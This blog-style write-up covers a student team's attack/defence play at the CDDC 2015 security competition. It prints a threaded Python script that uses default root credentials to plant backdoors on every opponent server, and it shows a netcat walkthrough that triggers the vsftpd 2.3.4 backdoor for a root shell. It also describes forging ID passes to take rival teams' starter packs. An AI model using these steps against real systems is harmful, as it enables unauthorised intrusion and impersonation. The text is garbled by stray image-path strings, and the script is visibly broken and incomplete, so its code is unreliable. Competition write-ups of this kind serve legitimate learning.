NUS Greyhats at CDDC 2015 and (Almost) Epic Mass Exploitation

22 minute read

Disclaimer: All opinions shared in this article are solely mine and I do notrepresent anyone else. Also, please do note the distinction between ‘Gamemaster’ and ‘Hardware and Network Vendor’ when the terms do appear in the text.

Edit (240615 15:40): After speaking to other attendees, I realised I wasn’t quite accurate in how I was describing the network issues and so have made corrections.


The Cyber Defenders Discovery Camp 2015 is an introductory computer security workshop slash competition targeted at students at the JC and IHL levels. There are two days of training in which a condensed form of OSSA byThinkSECURE is delivered to the participants which aims to cover the basics of what is required to compete on the third day.

It has been a great pleasure of mine to have been given the opportunity to participate in my second CDDC (I won in 2012) with the NUS Greyhats this year. I salute their passion and theexperience even though things went horribly for us (will elaborate later) and I look forward to being a part of the group as it grows. We have put in an immense amount of effort together.

The format of the competition is unique. There are two objectives:

  1. Attack and Defend a Linux firewall and Linux server that was provided during the training days. The server plays host to a number of very vulnerable services.
  2. Penetrate your way into the Scenario Network run by the Gamemasters and solve side challenges.

If you are familiar with the competitions run by ThinkSECURE such as AIRRAID, objective 2 is their trademark. So the decision to include an attack/defence portion is an interesting addition. Unfortunately, the time limit is ridiculously short (5 hours) to fully appreciate the intricacies of the scenario network in addition to playing defence.

This blog post will discuss, in full disclosure style, the preparations we performed, the scripts we wrote, the things we did, the shenanigans we pulled, and ultimately the really cool things that we’ve learnt. However, on the flip side, I believe that CDDC 2012 was a much smoother event. I am quite familiar with CTFs and have a few reservations about this year’s edition (with regards to the ridiculously short time allocated for the Gamemasters by the organisers to run the gameplay, as well as the poor floor network support displayed by the hardware and network vendor). I will discuss the shortcomings of this competition, and provide some suggestions for improvement in a separate article.


A stitch in time saves nine. Right?

Training Days

Being more or less well versed with the contents of the training (most of us hold the OSSA certification), one might think that it was a waste of time for us. One could not be more wrong. The training days were a great opportunity to learn more about both about our fellow competitors as well as the elements of thecompetition. The trick is to keep your eyes, ears, and mind open. Always be on the lookout for holes.

Competition Elements

From the way the hardware was set up, it was obvious that the competition would leverage on the same infrastructure as the workshop. Now, two virtual machines running Fedora were provided for the workshop on the server machine. One is dual-homed and acts as the firewall, and the other sits behind the firewall and runs services.

Since the effort required to set up the virtual machines PER TEAM is quite astronomical (there were 57 IHL teams), we predicted that the virtual machines would be reused for the attack/defence portion of the competition (we were correct). Now, what would an intelligent agent do with this prediction? Copy out the virtual machines to a thumb drive for analysis at home, of course

Now, that isn’t the only thing that can be done. The implication of virtual machine re-use means that there is the very large possibility that students might screw up their machines during the workshop. Thus, there is also an equally large possibility that the organisers are aware of this and will give the instruction to revert their images (this didn’t happen though).

However, we are also banking on the fact that people who know what they are doing as a sysadmin would probably take the opportunity to harden their systems and NOT revert their images to prevent losing progress. This in addition to another prediction we had made the previous night: that the username and passwords will be set defaults instead of being team-specific(unlike in HitB), prompted us to write scripts to automate the planting of backdoors in every server of every team. The following is a listing of the python script we used to very quickly own every team’s machine.

from pwn import *
from Queue import Queue
from threading import Thread
import socket

USERNAME = "root"
PASSWORD = "password"
hosts = file("hosts").read().split("\n")

def do_stuff(q):
      while True:
        host = q.get()

def pwn(host):
    if host == "":
        s = ssh(USERNAME, host, password=PASSWORD)
        s.upload_file("./pwnscript", remote="/tmp/cache")
        s.upload_file("./", remote="/tmp/")
        s.run_to_end("echo '%s' | sudo sh /tmp/cache" % PASSWORD)

        log.success("%s Owned" % host)
        log.error("%s failed" % host)

q = Queue(maxsize=0)
num_threads = 10

for i in range(num_threads):
    worker = Thread(target=do_stuff, args=(q,))for i in hosts:


Server Image Analysis

Obviously, we cannot rely on our backdoors persisting through the competition and we are required to harden our own systems as well so a deep analysis on the system is key. First, we set up the machine on Virtualbox with the VMWare disk attached and edit the interface settings so that we can access it on a local network. We configure the machine to use DHCP.

[[email protected] ~]# cat /etc/sysconfig/network-scripts/ifcfg-eth1Now, we examine the list of processes that listen on both TCP and UDP ports.

[[email protected] ~]# netstat -tunap
Active Internet connections (servers and established)
Proto Recv-Q Send-Q Local Address               Foreign Address             State       PID/Program name
tcp        0      0       *                   LISTEN      1412/sendmail: acce
tcp        0      0        *                   LISTEN      1456/lighttpd
tcp        0      0      *                   LISTEN      1439/httpd
tcp        0      0       *                   LISTEN      1412/sendmail: acce
tcp        0      0        *                   LISTEN      1389/xinetd
tcp        0      0        *                   LISTEN      1379/sshd
tcp        0      0        *                   LISTEN      1412/sendmail: acce
tcp        0      0      *                   LISTEN      1439/httpd
tcp        0    960             ESTABLISHED 1713/0
udp        0      0        *                               1623/dhclient

We can see that the following services are running and actively listening for connections:

  1. xinetd on tcp port 212. sshd on tcp port 22
  3. sendmail on tcp ports 25, 465, and 587
  4. lighttpd on tcp port 80
  5. httpd on tcp ports 8080 and 8443
  6. dhclient on udp port 68

While all of these services are exploitable in one way or the other, the one that catches our eye is the xinetd one. Port 21 is FTP and xinetd will probably launch the FTP service on connection. Let us check:

[[email protected] ~]# nc localhost 21
220-               *** OUR FTP SERVER ***
220-    You are user %N out of a maximum of %M authorized anonymous logins.
220-    The current time here is %T.
220-    If you experience any problems here, contact : %E

And we are correct. Checking the xinetd configuration:[[email protected] ~]# cat /etc/xinetd.d/vsftpd
# default: on
# description:
#   The vsftpd FTP server serves FTP connections. It uses
#   normal, unencrypted usernames and passwords for authentication.
# vsftpd is designed to be secure.
service ftp
        socket_type             = stream
        wait                    = no
        user                    = root
        server                  = /usr/local/sbin/vsftpd
#       server_args             =
#       log_on_success          += DURATION USERID
#       log_on_failure          += USERID
        nice                    = 10
        disable                 = no

[[email protected] ~]# cat /etc/xinetd.d/xproftpd
# default: off
# description: The ProFTPD FTP server serves FTP connections. It uses \
#    normal, unencrypted usernames and passwords for authentication.
service ftp
    socket_type        = stream
    wait            = no
    user            = root
    server            = /usr/sbin/in.proftpd
    log_on_success        += DURATION USERID
    log_on_failure        += USERID
    nice            = 10disable            = yes

Looks like the server runs vsftpd by default. Let’s check what version it is running.

[[email protected] ~]# /usr/local/sbin/vsftpd -v
vsftpd: version 2.3.4

That's a bingo!

vsftpd 2.3.4 has a backdoor inserted into it  If you read the description of the backdoor, you can see how it triggers. Basically, if you send a string containing a smiley face (such as when you are providing a USER), a listening shell will be started on port 6200. To verify that this is indeed true, we can launch the exploit manually over netcat:

[email protected]:~/ctf2015/cddc$ nc 21
220-               *** OUR FTP SERVER ***
220-    You are user %N out of a maximum of %M authorized anonymous logins.
220-    The current time here is %T.
220-    If you experience any problems here, contact : %E
USER anonymous:)
331 Please specify the password.
[email protected]:~/ctf2015/cddc$ nc 6200
uid=0(root) gid=0(root)It even has root permissions since obviously, xinetd has been configured to use the root user for vsftpd. Now, this is easily fixable. Since we want to ensure that the FTP behaviour is exactly as how the Gamemasters expect it to be during the competition, we simply patched the binary by removing the shell spawning and string compare triggers.

Using Hopper to NOP out the offending bytes Using Hopper to NOP out the offending bytes

Now after a bit of searching around, we discovered that there are two files that are required to be exact and unchanged to maintain a level of service availability. They were:

[[email protected] ~]# cat /home/public/file
The contents of this file is not to be changed or deleted.
[[email protected] ~]# cat /srv/www/htdocs/index.html
<font size=5px face="tahoma"><b>Welcome To Our Web Server</b></font>
This page should not be modified in any way (not even a<br>
space or fullstop should be added!) and should<br>
remain accessible by anyone visiting this service.
Any outage to this service or modification orremoval of<br>
this web page will constitute a loss of availability on the<br>
part of the person(s) running this service.

We inferred that the SSH, FTP, and Web access has to be untampered with.

This is only the tip of the iceberg for what we’ve discovered in our analysis of the system. We’ll leave that as an exercise to the reader to discover more :) For a description of how we leveraged our knowledge of the system, please take a look at the SleekPwn section later in this article.

Other Competitors

Now, we were also able to very accurately pin point which IP address maps to which team as well. How, you might ask? Reconnaissance, of course :) Also, teamsare given a number and your virtual machines are mapped to: 172.25.0.X for the firewall, and 172.26.X.1 for the server where X is the team number.

Map of teams Map of teams

Of course, we aren’t restricted to the technical aspects of security. There is always the operational aspect of it. We searched the social networking websites for mentions of #CDDC and found quite a few names to match to the teams. We even found an aspiring photographer on an SP team :/ Taking pictures of your pass isn’t a very good idea anywhere.

Completely exploitable Completely exploitable

Prepared Attacks

Access Pass Spoofing

From there, we came up with a plan to deny some teams access to their starting packs. We designed a method to spoof the access passes that allows for very quick and easy replacement of names. Here are a few images detailing the process:

Matching the colours and sizes Matching the colours and sizes

Examples of the finished product Examples of the finished product

All we needed to do was ensure that we queue up before our target teams and collect their starter packs :) Do note that the Gamemasters did anticipate such a ruse happening (it is a free fire zone, after all) and prepared back ups.

Shown here is some of our loot:

Some souvenirs Some souvenirs


My baby of the competition is called SleekPwn. I have open sourced it and it is accessible at my github repo. It is a system that was designed to automatically engage and compromise opponent servers, and monitor for the indicators of compromise and sabotage. The attack model is heavily specific to this competition and is designed to be robust and intelligent. This is because recovering from a compromise is very easy: one may just simply revert the image. Hence, it has to have automated detection andre-compromise logic included as well.

As a summary:

What it is

  • Written in Python, leveraging on a few libraries:
    • pwntools, for easier SSH handling and beautiful logging
    • bottle, to run the web monitor interface
    • peewee, to provide the ORM on top of a SQLite database
